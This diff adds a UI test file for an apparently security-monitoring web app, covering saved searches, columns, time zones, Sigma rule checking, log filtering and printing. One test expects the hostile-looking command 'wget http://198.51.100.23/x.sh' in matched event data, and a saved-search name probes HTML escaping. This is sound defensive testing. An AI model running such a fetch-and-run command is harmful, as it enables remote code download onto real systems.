@@ -1,0 +1,133 @@
+// SPDX-License-Identifier: MIT
+/** What one person sets up for himself: searches, columns, density, time zone; a rule tried, a log read, a page printed. */
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { accessible, screenshot, visit } from "./harness.mjs";
+
+const EVENTS = "/events?since=all";
+
+test("a search is saved under a name, asked for again, and forgotten", async () => {
+  const { page, end } = await visit(`${EVENTS}&q=kind:auth.attempt`, { role: "viewer" });
+  await page.getByRole("gridcell", { name: "auth.attempt" }).first().waitFor();
+  await page.getByRole("button", { name: "Save this search" }).click();
+  const dialog = page.getByRole("dialog");
+  await dialog.getByLabel("Name").fill("<b>guesses</b>");
+  await dialog.getByRole("button", { name: "Save" }).click();
+  const saved = page.getByRole("button", { name: "<b>guesses</b>", exact: true });
+  await saved.waitFor();
+
+  await page.goto(EVENTS); // it is kept by the browser, not by the page
+  await saved.click();
+  await page.waitForURL((url) => url.searchParams.get("q") === "kind:auth.attempt");
+  await page.locator('button[aria-pressed="true"]', { hasText: "guesses" }).waitFor();
+  await accessible(page);
+  await page.getByRole("button", { name: "Forget the search <b>guesses</b>" }).click();
+  await saved.waitFor({ state: "hidden" });
+  await page.getByRole("button", { name: "Save this search" }).waitFor();
+  await end();
+});
+
+test("a column that is left out stays left out", async () => {
+  const { page, end } = await visit("/attackers?since=all", { role: "viewer" });
+  const header = page.getByRole("columnheader", { name: "Score" });
+  await header.waitFor();
+  await page.getByRole("button", { name: "Columns" }).click();
+  const menu = page.getByRole("dialog", { name: "Columns" });
+  await menu.getByRole("checkbox", { name: "Score" }).uncheck();
+  await header.waitFor({ state: "hidden" });
+  await accessible(page);
+  await page.reload();
+  await page.getByRole("columnheader").first().waitFor();
+  assert.equal(await header.count(), 0);
+  await page.getByRole("button", { name: "Columns" }).click();
+  await menu.getByRole("checkbox", { name: "Score" }).check();
+  await header.waitFor();
+  await end();
+});
+
+test("rows are denser and times of another zone at once, and after a reload", async () => {
+  const { page, end } = await visit(EVENTS, { role: "viewer" });
+  const time = page.locator("time[title]").first();
+  await time.waitFor();
+  const height = async () => (await page.getByRole("row").nth(1).boundingBox()).height;
+  const before = await height();
+  await page.getByRole("button", { name: "Account and appearance" }).click();
+  await page.getByRole("radio", { name: "Dense" }).press("Space");
+  await page.getByLabel("Time zone").selectOption("Asia/Tokyo");
+  await accessible(page);
+  await page.keyboard.press("Escape");
+  for (const reload of [false, true]) {
+    if (reload) await page.reload();
+    await page.locator('time[title*="Asia/Tokyo"]').first().waitFor();
+    assert.ok((await height()) < before, "rows are as high as before");
+    const [shown, exact] = await time.evaluate((one) => [one.title, one.dateTime]);
+    // Nine hours before UTC, without summer time.
+    const there = new Date(Date.parse(exact.replace(/(\.\d{3})\d+/, "$1")) + 540 * 60_000);
+    assert.equal(shown.slice(0, 19), there.toISOString().slice(0, 19).replace("T", " "));
+  }
+  await screenshot(page, "events-dense");
+  await end();
+});
+
+test("a rule is checked: what is wrong with it, then what it would have found", async () => {
+  const { page, end } = await visit("/rules?tab=editor", { role: "analyst" });
+  const rule = page.getByLabel("Rule (Sigma, YAML)");
+  const good = await rule.inputValue();
+  await rule.fill(good.replace("condition: selection", "condition: nothing"));
+  await page.getByRole("button", { name: "Check", exact: true }).click();
+  await page.getByText("It cannot be used").waitFor();
+  await page
+    .getByText(/^Line \d+: ./)
+    .first()
+    .waitFor();
+  await rule.fill(good);
+  await page.getByRole("button", { name: "Check", exact: true }).click();
+  await page.getByText("The rule is good").waitFor();
+  await page.getByText(/^It finds [1-9]\d* of the newest [1-9]\d* events/).waitFor();
+  await page.getByText("wget http://198.51.100.23/x.sh").first().waitFor();
+  await accessible(page);
+  await end();
+});
+
+test("the end of a worker's log is narrowed by words and by level", async () => {
+  const { page, end } = await visit("/workers/profiler", { role: "analyst" });
+  const log = page.getByRole("log", { name: "Log" });
+  await log.locator("[data-level]").first().waitFor();
+  await page.getByRole("checkbox", { name: "Follow" }).uncheck();
+  const messages = () => log.locator("[data-level] span").allInnerTexts();
+  const [first] = await messages();
+  await page.getByPlaceholder("Only lines with …").fill(first);
+  assert.ok((await messages()).every((one) => one.includes(first)));
+  await page.getByPlaceholder("Only lines with …").fill("no line says this");
+  assert.deepEqual(await messages(), []);
+  await page.getByPlaceholder("Only lines with …").fill("");
+  await page.getByLabel("Level").selectOption("error");
+  const levels = await log.locator("[data-level]").evaluateAll((lines) => lines.map((one) => one.dataset.level));
+  assert.deepEqual(
+    levels.filter((one) => !["error", "critical"].includes(one)),
+    [],
+  );
+  await accessible(page);
+  await end();
+});
+
+test("a printed page is its content, dark on white", async () => {
+  const { page, end } = await visit("/attackers?since=all", { role: "viewer", theme: "dark" });
+  await page.getByRole("row").nth(1).waitFor();
+  const back = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
+  const dark = await back();
+  await page.emulateMedia({ media: "print" });
+  await page.evaluate(() => dispatchEvent(new Event("beforeprint"))); // a browser says so before it prints
+  await page.getByRole("navigation").first().waitFor({ state: "hidden" });
+  await page.getByRole("row").nth(1).waitFor();
+  assert.notEqual(await back(), dark);
+  assert.equal(await page.locator("html").getAttribute("data-theme"), "light");
+  assert.equal(await page.getByRole("button", { name: "Account and appearance" }).isVisible(), false);
+  const paper = await page.pdf({ format: "A4" });
+  assert.equal(paper.subarray(0, 5).toString(), "%PDF-");
+  await page.emulateMedia({ media: "screen" });
+  await page.evaluate(() => dispatchEvent(new Event("afterprint")));
+  await page.getByRole("navigation").first().waitFor();
+  assert.equal(await back(), dark);
+  await end();
+});
